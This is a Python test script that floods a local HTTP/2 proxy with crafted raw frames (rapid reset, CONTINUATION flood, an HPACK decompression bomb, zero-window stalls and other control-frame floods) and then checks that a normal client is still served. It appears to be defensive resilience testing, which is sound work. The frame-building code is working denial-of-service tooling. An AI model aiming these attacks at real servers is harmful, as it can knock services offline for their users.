#!/usr/bin/env python3
"""HTTP/2 attacks over TLS (ALPN h2) against a ringgate listener, one per invocation.

    python3 tests/h2/attacks.py ATTACK --port P [--host app.test] [--ca root.pem | --insecure]
        [--frames N] [--streams N] [--probe-every K] [--path /bytes/1000] [--wait S]

ATTACK is one of:
  rapid_reset    HEADERS (GET --slow-path) + RST_STREAM(CANCEL), stream after stream
  continuation   HEADERS without END_HEADERS, then CONTINUATION frames that never end it
  ping           PING frames
  settings       empty SETTINGS frames
  priority       PRIORITY frames for an idle stream
  empty_data     one open stream (POST, no END_STREAM), then empty DATA frames on it
  window_update  WINDOW_UPDATE(+1) frames on the connection
  hpack_bomb     one ~4 KB field put in the HPACK dynamic table, then header blocks of
                 nothing but references to it (each 1 byte on the wire, ~4 KB decoded)
  zero_window    SETTINGS_INITIAL_WINDOW_SIZE 0, --streams GETs of a large body
                 (--big-path), the window never opened

The attack connection is raw frames (hyperframe, hpack) so that it can break the rules
the h2 package would enforce. Flood frames go out in chunks; between chunks whatever the
proxy sent is read, so neither side blocks on a full socket. Floods that the proxy does
not echo (WINDOW_UPDATE, empty DATA) carry a PING probe every --probe-every frames: the
PING ACKs that came back bound how many flood frames the proxy let through.

A second, well-behaved connection (the h2 package's client state machine) is opened
once the attack is under way: one GET on it while the attack runs, one more after the
attack connection ended. Both must answer 200 with the whole body.

Prints `key=value` lines on stdout (lists comma-separated, `-` for none): frames sent,
the outcome (`goaway` with its code, `resets`, `closed`, `none`), PING/SETTINGS ACKs,
responses and resets seen, the GOAWAY's last stream id, and the good connection's
results (`status,body length` or what went wrong). Exit status 0 when the attack ran
(whatever its outcome; the caller judges it), 2 on a usage or setup error.
"""
import argparse
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame,
                              HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
               3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED",
               6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
               9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
               12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
ATTACKS = ("rapid_reset", "continuation", "ping", "settings", "priority", "empty_data",
           "window_update", "hpack_bomb", "zero_window")


def tls_connect(a):
    ctx = ssl.create_default_context()
    if a.insecure:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    else:
        ctx.load_verify_locations(cafile=a.ca)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", a.port), timeout=a.wait)
    s = ctx.wrap_socket(raw, server_hostname=a.host)
    if s.selected_alpn_protocol() != "h2":
        raise SystemExit(f"ALPN chose {s.selected_alpn_protocol()!r}, not h2")
    return s


def request_block(enc, a, method, path, extra=()):
    return enc.encode([(":method", method), (":scheme", "https"), (":authority", a.host),
                       (":path", path)] + list(extra))


class Attacker:
    """The raw attack connection: frames out, frames in, what came back."""

    def __init__(self, a, settings=None):
        self.a = a
        self.s = tls_connect(a)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.inbuf = bytearray()
        self.sent = 0  # flood frames sent (probes and set-up frames not counted)
        self.acks = {"ping": 0, "settings": 0}
        self.probe_acks = 0
        self.responses = {}  # stream id -> status
        self.resets = {}  # stream id -> error code name
        self.data_bytes = 0
        self.goaway = None  # (code, last stream id)
        self.closed = False
        self.server_settings = False  # the proxy's SETTINGS came (and were acknowledged)
        s = SettingsFrame(0)
        s.settings = settings or {}
        self.s.sendall(PREFACE + s.serialize())

    def send(self, data):
        """Sends bytes, then reads what is there; False when they were not all sent (the
        proxy had said GOAWAY or closed before)."""
        if self.done():
            return False
        try:
            self.s.sendall(data)
        except (OSError, ssl.SSLError):
            # The proxy may close while we send; what it said before is still readable.
            self.closed = True
            self.read(0.0)
            return False
        self.read(0.0)
        return True

    def done(self):
        return self.goaway is not None or self.closed

    def read(self, timeout):
        """Reads what is there (or waits up to `timeout` for something) and parses it;
        True when something came (or the connection closed)."""
        deadline = time.monotonic() + timeout
        got = False
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            if not self.s.pending():
                r, _, _ = select.select([self.s], [], [], 0 if got else left)
                if not r:
                    return got
            try:
                chunk = self.s.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (OSError, ssl.SSLError):
                chunk = b""
            got = True
            if not chunk:
                self.closed = True
                return got
            self.inbuf += chunk
            self.parse()
        return got

    def parse(self):
        while len(self.inbuf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                return
            f.parse_body(memoryview(self.inbuf[9:9 + length]))
            del self.inbuf[:9 + length]
            if isinstance(f, PingFrame) and "ACK" in f.flags:
                if f.opaque_data.startswith(b"probe"):
                    self.probe_acks += 1
                else:
                    self.acks["ping"] += 1
            elif isinstance(f, SettingsFrame) and "ACK" in f.flags:
                self.acks["settings"] += 1
            elif isinstance(f, SettingsFrame):
                self.s.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                self.server_settings = True
            elif isinstance(f, HeadersFrame):
                # The proxy's responses are small: one HEADERS frame, END_HEADERS.
                fields = dict(self.dec.decode(bytes(f.data), raw=True))
                self.responses[f.stream_id] = int(fields.get(b":status", b"0"))
            elif isinstance(f, DataFrame):
                self.data_bytes += len(f.data)
            elif isinstance(f, RstStreamFrame):
                self.resets[f.stream_id] = ERROR_NAMES.get(f.error_code, str(f.error_code))
            elif isinstance(f, GoAwayFrame):
                self.goaway = (f.error_code, f.last_stream_id)

    def probe(self):
        return PingFrame(0, opaque_data=b"probe\0\0\0").serialize()

    def finish(self):
        """After a flood that was sent whole: waits (bounded by --wait) for the proxy's
        GOAWAY or close."""
        while not self.done() and self.read(self.a.wait):
            pass


class Good:
    """The well-behaved connection: the h2 package's client."""

    def __init__(self, a):
        self.a = a
        self.s = tls_connect(a)
        self.c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.c.initiate_connection()
        self.s.sendall(self.c.data_to_send())

    def get(self, path):
        """One GET; (status, body length) or an error string."""
        try:
            sid = self.c.get_next_available_stream_id()
            self.c.send_headers(sid, [(":method", "GET"), (":scheme", "https"),
                                      (":authority", self.a.host), (":path", path)],
                                end_stream=True)
            self.s.sendall(self.c.data_to_send())
            status, body = None, 0
            while True:
                data = self.s.recv(65536)
                if not data:
                    return "connection closed"
                for ev in self.c.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                        status = int(dict(ev.headers)[b":status"])
                    elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                        body += len(ev.data)
                        self.c.acknowledge_received_data(ev.flow_controlled_length, sid)
                    elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                        self.s.sendall(self.c.data_to_send())
                        return [status, body]
                    elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                        return f"stream reset {ev.error_code!r}"
                    elif isinstance(ev, h2.events.ConnectionTerminated):
                        return f"GOAWAY {ev.error_code!r}"
                self.s.sendall(self.c.data_to_send())
        except Exception as e:  # noqa: BLE001 - reported to the caller
            return f"{type(e).__name__}: {e}"


def flood(att, frame, count, good, a, probe_every=0, chunk=50):
    """Sends `count` copies of `frame` in chunks of `chunk` (a PING probe after every
    `probe_every`); the good connection's first GET goes after the first chunk."""
    buf, n, in_buf = bytearray(), 0, 0
    while n < count and not att.done():
        buf += frame
        n += 1
        in_buf += 1
        if probe_every and n % probe_every == 0:
            buf += att.probe()
        if n % chunk == 0 or n == count:
            if not att.send(bytes(buf)):
                break
            att.sent += in_buf
            buf.clear()
            in_buf = 0
            if "during" not in good:
                good["during"] = Good(a).get(a.path)
    if "during" not in good:
        good["during"] = Good(a).get(a.path)


def run(a):
    good = {}
    settings = {}
    if a.attack == "zero_window":
        settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    att = Attacker(a, settings)
    # The proxy's SETTINGS first, acknowledged: an ACK sent later could land inside the
    # CONTINUATION attack's header block, which is the client's own PROTOCOL_ERROR.
    deadline = time.monotonic() + a.wait
    while not att.server_settings and not att.done() and time.monotonic() < deadline:
        att.read(deadline - time.monotonic())
    if a.attack == "ping":
        flood(att, PingFrame(0, opaque_data=b"flood\0\0\0").serialize(), a.frames, good, a)
    elif a.attack == "priority":
        # PRIORITY for stream 3 (idle), depending on stream 1: legal, and useless.
        flood(att, PriorityFrame(3, depends_on=1, stream_weight=16).serialize(), a.frames,
              good, a)
    elif a.attack == "settings":
        flood(att, SettingsFrame(0).serialize(), a.frames, good, a)
    elif a.attack == "window_update":
        flood(att, WindowUpdateFrame(0, window_increment=1).serialize(), a.frames, good, a,
              probe_every=a.probe_every)
    elif a.attack == "empty_data":
        h = HeadersFrame(1, flags=["END_HEADERS"])
        h.data = request_block(att.enc, a, "POST", a.slow_path)
        att.send(h.serialize())
        flood(att, DataFrame(1).serialize(), a.frames, good, a, probe_every=a.probe_every)
    elif a.attack == "continuation":
        h = HeadersFrame(1, flags=["END_STREAM"])
        h.data = request_block(att.enc, a, "GET", a.path)
        att.send(h.serialize())
        # One literal field without indexing per frame: `x-c: <1000 x 'a'>`.
        field = b"\x00\x03x-c" + hpack_int(1000, 7, 0) + b"a" * 1000
        flood(att, ContinuationFrame(1, data=field).serialize(), a.frames, good, a,
              chunk=10)
    elif a.attack == "rapid_reset":
        started = False
        for i in range(a.frames):
            sid = 1 + 2 * i
            h = HeadersFrame(sid, flags=["END_HEADERS", "END_STREAM"])
            h.data = request_block(att.enc, a, "GET", f"{a.slow_path}&i={i}")
            if not att.send(h.serialize() + RstStreamFrame(sid, error_code=8).serialize()):
                break
            att.sent += 1
            if not started:
                good["during"] = Good(a).get(a.path)
                started = True
        if not started:
            good["during"] = Good(a).get(a.path)
    elif a.attack == "hpack_bomb":
        # Stream 1 puts the field in the table: literal with incremental indexing, new
        # name. The dynamic table holds 4096 bytes: 32 + 6 + 4000 fits.
        value = b"b" * 4000
        first = request_block(att.enc, a, "GET", a.path)
        table_block = first + b"\x40\x06x-bomb" + hpack_int(len(value), 7, 0) + value
        h = HeadersFrame(1, flags=["END_HEADERS", "END_STREAM"])
        h.data = table_block
        att.send(h.serialize())
        # The rest: the pseudo-headers (static table / literals), then 16,000 x "index
        # 62" (the newest dynamic entry, which is x-bomb): 64 MB once decoded.
        for i in range(a.frames):
            sid = 3 + 2 * i
            h = HeadersFrame(sid, flags=["END_HEADERS", "END_STREAM"])
            h.data = (b"\x82\x87" + b"\x04" + hpack_int(len(a.path), 7, 0)
                      + a.path.encode() + b"\x01" + hpack_int(len(a.host), 7, 0)
                      + a.host.encode() + b"\xbe" * 16000)
            if not att.send(h.serialize()):
                break
            att.sent += 1
            if i == 0:
                good["during"] = Good(a).get(a.path)
            # Each bomb answered (a 431, a reset or GOAWAY) before the next: the count
            # of answers is how many the proxy decoded.
            while (not att.done() and sid not in att.resets
                   and sid not in att.responses and att.read(a.wait)):
                pass
    elif a.attack == "zero_window":
        for i in range(a.streams):
            sid = 1 + 2 * i
            h = HeadersFrame(sid, flags=["END_HEADERS", "END_STREAM"])
            h.data = request_block(att.enc, a, "GET", a.big_path)
            att.send(h.serialize())
            att.sent += 1
        good["during"] = Good(a).get(a.path)
        # The proxy resets each held stream after its send timeout.
        while not att.done() and len(att.resets) < a.streams and att.read(a.wait):
            pass
    if a.attack != "zero_window":
        att.finish()
    # The attack connection is over (or answered): the good one still serves.
    good["after"] = Good(a).get(a.path)
    if att.goaway is not None:
        outcome = "goaway"
    elif att.resets:
        outcome = "resets"
    elif att.closed:
        outcome = "closed"
    else:
        outcome = "none"
    code = att.goaway[0] if att.goaway else None
    return {
        "attack": a.attack,
        "frames_sent": att.sent,
        "outcome": outcome,
        "goaway": ERROR_NAMES.get(code, code) if code is not None else None,
        "last_stream_id": att.goaway[1] if att.goaway else None,
        "ping_acks": att.acks["ping"],
        "settings_acks": att.acks["settings"],
        "probe_acks": att.probe_acks,
        "responses": len(att.responses),
        "resets": len(att.resets),
        "reset_codes": sorted(set(att.resets.values())),
        "data_bytes": att.data_bytes,
        "good_during": good.get("during"),
        "good_after": good.get("after"),
    }


def hpack_int(value, prefix_bits, first):
    """An HPACK integer (RFC 7541 §5.1) with `first`'s high bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=ATTACKS)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", default="app.test")
    ap.add_argument("--ca", help="the CA certificate (PEM) that signed the proxy's")
    ap.add_argument("--insecure", action="store_true", help="do not verify the proxy")
    ap.add_argument("--frames", type=int, default=10000,
                    help="flood frames (streams for rapid_reset and hpack_bomb)")
    ap.add_argument("--streams", type=int, default=4, help="zero_window: streams held")
    ap.add_argument("--probe-every", type=int, default=10,
                    help="a PING probe after every K frames of an un-echoed flood")
    ap.add_argument("--path", default="/bytes/1000", help="the good connection's GET")
    ap.add_argument("--slow-path", default="/slow?ms=60000",
                    help="rapid_reset and empty_data: an upstream that takes its time")
    ap.add_argument("--big-path", default="/bytes/67108864",
                    help="zero_window: a large response")
    ap.add_argument("--wait", type=float, default=20.0,
                    help="bound on each wait for the proxy (seconds)")
    a = ap.parse_args()
    if not a.insecure and not a.ca:
        ap.error("--ca or --insecure")
    for k, v in run(a).items():
        if v is None:
            v = "-"
        elif isinstance(v, list):
            v = ",".join(str(x) for x in v)
        print(f"{k}={v}", flush=True)


if __name__ == "__main__":
    main()
